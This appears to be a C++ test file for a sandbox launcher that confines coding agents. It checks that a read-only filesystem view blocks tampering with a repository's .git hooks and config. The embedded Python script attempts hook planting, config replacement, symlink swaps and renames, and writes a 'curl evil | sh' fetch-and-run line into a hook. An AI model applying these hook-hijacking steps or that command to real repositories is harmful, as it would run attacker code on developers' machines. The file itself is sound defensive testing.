// The filesystem view through aasm-launch (docs/filesystem-view.md), under
// the shipped coding-agent profile as it ships (it turns the view on), as
// root and as uid 65534: each attack on the repository's hooks and config
// fails while the workspace stays writable, and each has its control, the
// same script under an allow-everything plan, where every step succeeds. The
// command is python3, which every host with the profile's tools has,
// printing each operation's errno name.
#include <doctest/doctest.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "harness.h"
#include "view_fixtures.h"

namespace aasm::ktest {
namespace {

// Each operation on one line: NAME OK, or NAME ERRNONAME. In this order
// every one succeeds under the control, each on what the ones before left.
const char* const kScript = R"(import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def exchange(a, b):
    if libc.renameat2(-100, a.encode(), -100, b.encode(), 2) != 0:  # AT_FDCWD, RENAME_EXCHANGE
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
def planted(path, text):
    open(path, "w").write(text)
    return path
def t(name, f):
    try:
        f()
        print(name, "OK")
    except OSError as e:
        print(name, errno.errorcode[e.errno])
t("write-config", lambda: open(".git/config", "a").write("[core]\n\thooksPath = /tmp\n"))
t("write-hook", lambda: open(".git/hooks/pre-commit", "a").write("curl evil | sh\n"))
t("new-hook", lambda: open(".git/hooks/post-checkout", "w").write("#!/bin/sh\n"))
t("symlink-in-hooks", lambda: os.symlink("/tmp/evil", ".git/hooks/post-merge"))
t("replace-config", lambda: os.rename(planted("cfg", "evil\n"), ".git/config"))
t("replace-hook", lambda: os.rename(planted("hook", "#!/bin/sh\n"), ".git/hooks/pre-commit"))
os.symlink("/tmp/evil", "cfglink")
os.symlink("/tmp/evil", "hooklink")
os.symlink("/tmp", "dirlink")
t("symlink-over-config", lambda: os.rename("cfglink", ".git/config"))
t("symlink-over-hook", lambda: os.rename("hooklink", ".git/hooks/pre-commit"))
t("rename-hook-away", lambda: os.rename(".git/hooks/pre-commit", ".git/hooks/pre-commit.old"))
t("rename-config-away", lambda: os.rename(".git/config", ".git/config.old"))
t("exchange-hooks-with-symlink", lambda: exchange("dirlink", ".git/hooks"))
t("rename-hooks-away", lambda: os.rename(".git/hooks", "hooks-old"))
t("rename-git-away", lambda: os.rename(".git", "git-old"))
t("new-top-level-file", lambda: open("made.txt", "w").write("ok\n"))
t("rename-in-workspace", lambda: os.rename("made.txt", "renamed.txt"))
t("stat-outside", lambda: os.stat(sys.argv[1]))
print("host-pid", "visible" if os.path.exists("/proc/" + sys.argv[2]) else "absent")
st = os.statvfs("/tmp")
print("tmp-bytes", st.f_blocks * st.f_frsize)
)";

// Each attack and what the view answers: a write into a protected path is
// EROFS (a read-only mount); a rename onto one or out of a protected
// directory crosses mounts (EXDEV); one that would move or replace a mount
// point (the config, .git pinned above it) is EBUSY.
const std::vector<std::pair<std::string, std::string>> kAttacks = {
    {"write-config", "EROFS"},        {"write-hook", "EROFS"},
    {"new-hook", "EROFS"},            {"symlink-in-hooks", "EROFS"},
    {"replace-config", "EXDEV"},      {"replace-hook", "EXDEV"},
    {"symlink-over-config", "EXDEV"}, {"symlink-over-hook", "EXDEV"},
    {"rename-hook-away", "EROFS"},    {"rename-config-away", "EBUSY"},
    {"exchange-hooks-with-symlink", "EXDEV"}, {"rename-hooks-away", "EXDEV"},
    {"rename-git-away", "EBUSY"},
};

struct Workspace {
  TempDir base{"/var/tmp"};
  std::string ws = base / "ws";
  std::string secret = base / "secret";

  Workspace(uid_t uid) {
    ::chmod(base.path().c_str(), 0755);
    make_dir(ws);
    make_dir(ws + "/.git");
    make_dir(ws + "/.git/hooks");
    write_file(ws + "/.git/config", "[core]\n");
    write_file(ws + "/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
    write_file(ws + "/t.py", kScript);
    write_file(secret, "not for the command\n");
    if (uid != 0) REQUIRE(run({"/usr/bin/chown", "-R", "65534:65534", base.path()}).exit_code == 0);
  }

  // The shipped profile alone, or the control.
  std::string compile(bool shipped) const { return compile_view_plan(base, shipped); }

  Run launch(const std::string& plan, uid_t uid, pid_t host_pid) const {
    // The receipt's key (docs/receipts.md#redaction) where this user may make it.
    std::vector<std::string> argv = {"/usr/bin/env", "-i", "PATH=/usr/bin:/bin", "LANG=C.UTF-8",
                                     "XDG_STATE_HOME=" + base / "state"};
    run_as(uid, argv);
    for (const std::string& a : {binary("AASM_LAUNCH"), std::string("--receipt"), base / "receipt.json", plan,
                                 std::string("--"), std::string("/usr/bin/python3"), std::string("t.py"), secret,
                                 std::to_string(host_pid)})
      argv.push_back(a);
    return run(argv, ws);
  }
};

void view_suite(uid_t uid) {
  const Sentinel host_process(uid == 0 ? Sentinel::Caps::kRoot : Sentinel::Caps::kNobody);
  SUBCASE("the shipped coding-agent: protected .git paths hold, the workspace is writable, the host is out of sight") {
    const Workspace w(uid);
    const std::string before = mountinfo();
    const Run r = w.launch(w.compile(true), uid, host_process.pid());
    INFO(r.err, r.out);
    REQUIRE(r.exit_code == 0);
    for (const auto& [attack, answer] : kAttacks) {
      CAPTURE(attack);
      CHECK(contains(r.out, attack + " " + answer + "\n"));
    }
    CHECK(contains(r.out, "new-top-level-file OK\n"));
    CHECK(contains(r.out, "rename-in-workspace OK\n"));
    CHECK(contains(r.out, "stat-outside ENOENT\n"));
    CHECK(contains(r.out, "host-pid absent\n"));
    CHECK(contains(r.out, "tmp-bytes 1073741824\n"));  // the profile's tmp_size, 1Gi
    // The host saw none of it: the protected files as they were, no mount left.
    CHECK(read_file(w.ws + "/.git/config") == "[core]\n");
    CHECK(read_file(w.ws + "/.git/hooks/pre-commit") == "#!/bin/sh\n");
    CHECK(!exists(w.ws + "/.git/hooks/post-checkout"));
    CHECK(exists(w.ws + "/renamed.txt"));
    CHECK(mountinfo() == before);
    const std::string receipt = read_file(w.base / "receipt.json");
    CHECK(contains(receipt, "\"domain\":\"filesystem_view\""));
    CHECK(contains(receipt, "answered a write-access check with EROFS before exec: ${CWD}/.git/config; ${CWD}/.git/hooks;"));
    CHECK(contains(receipt, "\"path\":\"/tmp\","));  // canonical JSON: a mount's members sorted by name
    CHECK(contains(receipt, "\"what\":\"private tmpfs, 1073741824 bytes\"}"));
  }
  SUBCASE("the control: the same script under an allow-everything plan, where every step succeeds") {
    const Workspace w(uid);
    const Run r = w.launch(w.compile(false), uid, host_process.pid());
    INFO(r.err, r.out);
    REQUIRE(r.exit_code == 0);
    for (const auto& [attack, answer] : kAttacks) {
      CAPTURE(attack);
      CHECK(contains(r.out, attack + " OK\n"));
    }
    CHECK(contains(r.out, "new-top-level-file OK\n"));
    CHECK(contains(r.out, "stat-outside OK\n"));  // Landlock does not mediate stat
    CHECK(contains(r.out, "host-pid visible\n"));
    CHECK(!contains(r.out, "tmp-bytes 1073741824\n"));  // the host's /tmp
    // The hooks directory, exchanged for the link, holds the planted hook.
    CHECK(read_file(w.ws + "/dirlink/post-checkout") == "#!/bin/sh\n");
  }
}

}  // namespace

TEST_CASE("view launch: coding-agent with the filesystem view, as root") { view_suite(0); }
TEST_CASE("view launch: coding-agent with the filesystem view, as uid 65534") { view_suite(kNobody); }

// A protected path that is missing is refused unless it is optional: then
// it is skipped, and said so (a workspace that is not a git repository, or
// a git worktree, whose .git is a file).
TEST_CASE("view launch: a missing protected path refuses the launch unless filesystem.optional lists it") {
  TempDir dir("/var/tmp");
  const std::string ws = dir / "ws";
  make_dir(ws);
  // One document, so its filesystem.optional is the cascade's (optional
  // lists meet across documents).
  auto plan_with = [&](const std::string& name, const std::string& optional) {
    write_file(dir / (name + ".yaml"), R"(apiVersion: aasm.dev/v1
kind: Policy
metadata: {name: view, tier: run}
spec:
  syscalls: {deny: ["@mount"]}
  isolation: {filesystem_view: true}
  filesystem:
    read: {allow: ["/usr", "${CWD}"]}
    write: {allow: ["${CWD}"]}
    execute: {allow: ["/usr"]}
    readonly: ["${CWD}/.git/hooks", "${CWD}/.git/config"]
)" + optional);
    const std::string plan = dir / (name + ".bin");
    const Run r = run({binary("AASMC"), "compile", dir / (name + ".yaml"), "-o", plan});
    INFO(r.err);
    REQUIRE(r.exit_code == 0);
    return plan;
  };
  const std::string required = plan_with("required", "");
  const Run refused = run({binary("AASM_LAUNCH"), required, "--", "/usr/bin/true"}, ws);
  CHECK(refused.exit_code == 125);
  CHECK(contains(refused.err, "filesystem_view: ${CWD}/.git/config"));
  CHECK(contains(refused.err, "list it in filesystem.optional"));
  const std::string optional = plan_with("optional", "    optional: [\"${CWD}/.git\"]\n");
  const Run ran = run({binary("AASM_LAUNCH"), optional, "--", "/usr/bin/true"}, ws);
  INFO(ran.err);
  CHECK(ran.exit_code == 0);
  CHECK(contains(ran.err, "optional path '${CWD}/.git/config' does not exist here"));

  // A git worktree or submodule: .git is a file, so .git/config is not there
  // either (ENOTDIR, not ENOENT): skipped when optional, refused when not.
  const std::string worktree = dir / "worktree";
  make_dir(worktree);
  write_file(worktree + "/.git", "gitdir: /var/tmp/elsewhere/.git/worktrees/w\n");
  const Run in_worktree = run({binary("AASM_LAUNCH"), optional, "--", "/usr/bin/true"}, worktree);
  INFO(in_worktree.err);
  CHECK(in_worktree.exit_code == 0);
  CHECK(contains(in_worktree.err, "optional path '${CWD}/.git/config' does not exist here"));
  const Run required_in_worktree = run({binary("AASM_LAUNCH"), required, "--", "/usr/bin/true"}, worktree);
  CHECK(required_in_worktree.exit_code == 125);
  CHECK(contains(required_in_worktree.err, "filesystem_view: ${CWD}/.git/config"));
  CHECK(contains(required_in_worktree.err, "Not a directory"));
}

}  // namespace aasm::ktest
